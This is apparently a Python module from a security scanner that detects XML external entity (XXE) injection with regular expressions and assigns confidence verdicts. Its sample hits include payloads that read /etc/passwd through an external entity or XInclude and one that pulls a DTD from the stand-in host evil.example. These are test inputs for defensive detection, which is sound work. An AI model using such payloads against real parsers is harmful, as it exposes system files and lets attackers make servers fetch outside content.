"""External entities: a document type that makes an XML parser read a file or an address.

CWE-611. Sources: W3C XML 1.0 (entity declarations), XInclude 1.0.
"""

import re

from delicti.detect.contexts import ANYWHERE, CERTAIN, POSSIBLE, PROBABLE, STRONG, Context, Verdict

CLASS, TECHNIQUE, WEAKNESS = "xxe", "T1190", "CWE-611"
ANCHORS = (
    r"<?!\s*entity\b",
    r"<!doctype[^>]{0,80}(?:system|public|\[)",
    r"xi:include|w3\.org/2001/xinclude",
    r"xsi:(?:nonamespace)?schemalocation",
    r"<xsl:|<\?xml-stylesheet",
)
CONTEXTS = ANYWHERE
HITS = (
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">',
    '<xi:include href="file:///etc/passwd" parse="text"/>',
)
LOOKALIKES = ("<!DOCTYPE html>", "what is an external entity", '<?xml version="1.0"?><a/>')

_ENTITY = re.compile(
    r"<?!\s*ENTITY\s+(?:%\s*)?[\w.:-]+\s+(?P<kind>SYSTEM|PUBLIC|['\"])?(?P<rest>[^>]{0,200})", re.IGNORECASE
)
_DOCTYPE = re.compile(r"<!DOCTYPE\s+[\w:.-]+\s+(?:SYSTEM|PUBLIC)\s+['\"](?!-//W3C)[^>]{0,200}", re.IGNORECASE)
_INCLUDE = re.compile(r"<\s*[\w]*:?include\s[^>]{0,200}href\s*=[^>]{0,200}|w3\.org/2001/XInclude", re.IGNORECASE)
_SCHEMA = re.compile(r"xsi:(?:noNamespaceS|s)chemaLocation\s*=\s*['\"]\S*\s*https?://[^'\"]{1,200}", re.IGNORECASE)

_STYLE = re.compile(
    r"<\?xml-stylesheet\s[^>]{0,120}href\s*=\s*['\"](?:https?:)?//[^>]{1,200}|<xsl:(?:value-of|copy-of|include|import|"
    r"variable)\s[^>]{0,80}(?:document\s*\(\s*['\"]|unparsed-text\s*\(|system-property\s*\(|href\s*=\s*['\"](?:https?|file):)[^>]{0,200}",
    re.IGNORECASE,
)
_QUERIED = re.compile(r"\b(?:extractvalue|xmltype)\s*\(", re.IGNORECASE)  # the document is a part of a query


def judge(value: str, context: Context) -> Verdict | None:  # noqa: ARG001
    """An entity with a source, a document type elsewhere, an inclusion."""
    if match := _ENTITY.search(value):
        kind = (match["kind"] or "").upper()
        outside = kind in ("SYSTEM", "PUBLIC")
        if outside or kind:
            return Verdict(
                POSSIBLE if _QUERIED.search(value) else CERTAIN if outside else STRONG,
                match[0][:300],
                "An XML parser would read the entity's source, or unfold it without end.",
            )
    if match := _INCLUDE.search(value):
        return Verdict(STRONG, match[0][:300], "An XML parser would include the file or address.")
    if match := _DOCTYPE.search(value):
        return Verdict(PROBABLE, match[0][:300], "An XML parser would fetch the document type from the address.")
    if match := _STYLE.search(value):
        return Verdict(STRONG, match[0][:300], "An XML parser would read the file or address for the stylesheet.")
    if match := _SCHEMA.search(value):
        return Verdict(PROBABLE, match[0][:300], "An XML parser would fetch the schema from the address.")
    return None
